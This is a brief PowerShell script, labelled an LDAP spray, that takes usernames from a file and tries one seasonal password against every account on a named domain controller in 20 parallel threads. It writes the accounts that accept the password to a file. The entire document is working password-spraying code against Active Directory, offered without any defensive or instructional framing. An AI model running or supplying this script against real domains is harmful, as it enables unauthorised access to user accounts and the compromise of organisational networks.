# ldap spray - one password against every account, 20 threads
$users = Get-Content -Path .\users.txt
$password = 'Spring2025!'
$dc = 'dc01.corp.local'

$users | ForEach-Object -Parallel {
    $entry = New-Object DirectoryServices.DirectoryEntry("LDAP://$using:dc", "CORP\$_", $using:password)
    if ($entry.name) {
        "[+] valid: CORP\$_"
    }
} -ThrottleLimit 20 | Out-File -FilePath .\valid.txt -Append
